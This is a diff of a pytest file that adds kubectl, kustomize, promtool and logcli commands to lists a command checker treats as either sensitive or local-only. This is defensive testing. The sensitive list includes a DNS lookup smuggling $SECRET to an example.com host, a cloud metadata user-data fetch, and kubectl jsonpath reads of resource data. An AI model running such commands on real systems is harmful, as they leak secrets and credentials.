@@ -130,7 +130,11 @@ def test_ordinary_variables_and_appended_files_read(command: str) -> None:
         "curl http://localhost@example.com/", "curl http://localhost.example.com", "curl localhost:$PORT/x",
         "curl -x example.com:80 http://localhost", "wget -qO- https://example.com", "http example.com",
         "curl http://169.254.169.254/latest/user-data", "ssh host ls", "rsync -n a host:b", "systemctl -H host status",
-        "host \"$SECRET.example.com\"", "dig $X.example.com",
+        "host \"$SECRET.example.com\"", "dig $X.example.com", "kubectl diff -f https://example.com/x.yaml",
+        "kubectl get -f \"https://$X/x.yaml\"", "kubectl kustomize github.com/a/b", "kustomize build git::https://x.io/y",
+        "kubectl apply --dry-run=server -f https://example.com/x.yaml", "promtool query instant https://example.com up",
+        "logcli --addr=https://example.com query x", "kubectl get \"$X\" -o jsonpath='{.status.x}{.data}'",
+        "kubectl get \"$X\" -o jsonpath='{.metadata.annotations}'", "kubectl get \"$X\" -o jsonpath='{.spec..data}'",
     ],
 )  # fmt: skip
 def test_what_reveals_or_reaches_out_is_sensitive(command: str) -> None:
@@ -143,7 +147,9 @@ def test_what_reveals_or_reaches_out_is_sensitive(command: str) -> None:
     [
         "curl localhost:8080/health", "curl http://grafana:3000/api/health", "curl :9200/_cat", "cat ~/.ssh/config",
         "curl http://[::1]:80/", "find ~/.ssh -name '*.pub'", "cat ~/.ssh/id_rsa.pub", "ls ~/.aws", "grep -rn TODO .",
-        "kubectl --kubeconfig ~/.kube/config get pods", "ps -ef", "ps aux",
+        "kubectl --kubeconfig ~/.kube/config get pods", "ps -ef", "ps aux", "kubectl diff -f http://localhost:8000/x.yaml",
+        "kubectl kustomize overlays/prod", "promtool query instant http://prometheus.monitoring.svc:9090 up",
+        "kubectl get pods -o name | while read p; do kubectl get \"$p\" -o jsonpath='{.status.podIP}'; done",
     ],
 )  # fmt: skip
 def test_what_stays_near_and_holds_no_secret_reads(command: str) -> None:
